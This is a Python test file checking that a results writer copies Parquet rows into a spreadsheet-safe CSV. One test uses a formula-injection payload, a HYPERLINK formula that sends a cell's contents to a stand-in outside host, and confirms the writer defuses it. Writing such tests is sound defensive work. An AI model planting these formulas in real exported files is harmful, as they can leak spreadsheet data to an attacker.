"""results.parquet and its spreadsheet copy results.csv: same rows, same values, nothing a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pyarrow.parquet as pq

from diffcolor.archive import storage
from diffcolor.archive.results import (
    CSV_LEFT_OUT,
    RESULTS_SCHEMA,
    csv_uri,
    write_results,
)


def _record(item_id: str, version: int, **fields) -> dict:
    record = {"item_id": item_id, "version": version, "status": "done", "caption": "a dog on a bench",
              "outputs": {"master": f"/out/{item_id}/v{version}/master.tif", "access": f"/out/{item_id}/v{version}/access.jpg"},
              "output_sha256": {"master": "ab" * 32}, "seconds": {"read": 0.25, "stage1": 12.5},
              "clip_score": 21.5, "max_delta_l": 0.125, "seed": 7, "smoke_run": False, "created_at": "2026-12-03T10:00:00Z"}
    record.update(fields)
    return record


def _cell(value) -> str:
    """A Parquet value as pyarrow's CSV writer spells it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def test_csv_has_the_parquets_rows_and_columns_flattened(tmp_path):
    records = [
        _record("one", 1),
        _record("two", 2, caption="Église Saint-Pierre, « façade », 1921", target_prompt="a red door",
                seconds={"read": 0.5, "render": 1.75}, outputs={"master": "/m.tif", "state": "/s.safetensors"}),
        {"item_id": "three", "status": "failed", "error_class": "bad_image", "error_message": "truncated, line 2\nmore"},
    ]
    uri = str(tmp_path / "results.parquet")
    assert write_results(records, uri) == 3
    assert csv_uri(uri) == str(tmp_path / "results.csv")

    table = pq.read_table(uri).to_pylist()
    data = storage.read_bytes(csv_uri(uri))
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: spreadsheets read the accents right
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == len(table) == 3

    maps = {"outputs", "output_sha256", "seconds"}
    scalar = [name for name in RESULTS_SCHEMA.names if name not in maps and name not in CSV_LEFT_OUT]
    # The Parquet's columns in its order, each map spread over one column per key.
    assert [name.split(".", 1)[0] for name in rows[0]] == [
        name for name in RESULTS_SCHEMA.names if name not in CSV_LEFT_OUT
        for _ in range(sum(1 for key in rows[0] if key.split(".", 1)[0] == name) if name in maps else 1)]
    for parquet_row, csv_row in zip(table, rows):
        for name in scalar:
            assert csv_row[name] == _cell(parquet_row[name]), name
        for name in maps:
            stored = dict(parquet_row[name] or [])
            flattened = {key.split(".", 1)[1]: value for key, value in csv_row.items() if key.startswith(f"{name}.")}
            assert {key: value for key, value in flattened.items() if value} == {k: _cell(v) for k, v in stored.items()}
    assert set(rows[0]) >= {"outputs.master", "outputs.access", "outputs.state", "seconds.read", "seconds.stage1",
                            "seconds.render", "output_sha256.master"}
    assert "record_json" not in rows[0]


def test_formula_like_text_is_defused_and_numbers_are_not(tmp_path):
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    records = [_record("one", 1, caption=hostile, error_message="+1 more", target_prompt="@SUM(A1)", max_delta_l=-0.5)]
    uri = str(tmp_path / "results.parquet")
    write_results(records, uri)
    row = next(csv.DictReader(io.StringIO(storage.read_bytes(csv_uri(uri)).decode("utf-8-sig"))))
    assert row["caption"] == "'" + hostile
    assert row["error_message"] == "'+1 more" and row["target_prompt"] == "'@SUM(A1)"
    assert row["max_delta_l"] == "-0.5"  # a number stays a number
    assert pq.read_table(uri).column("caption").to_pylist() == [hostile]  # the Parquet keeps the text as given


def test_an_empty_run_writes_a_header_only_csv_and_csv_can_be_turned_off(tmp_path):
    uri = str(tmp_path / "results.parquet")
    assert write_results([], uri) == 0
    header = storage.read_bytes(csv_uri(uri)).decode("utf-8-sig").splitlines()
    assert len(header) == 1 and header[0].startswith('"item_id","version","status"')
    other = str(tmp_path / "other.parquet")
    write_results([_record("one", 1)], other, csv=False)
    assert not storage.exists(csv_uri(other))
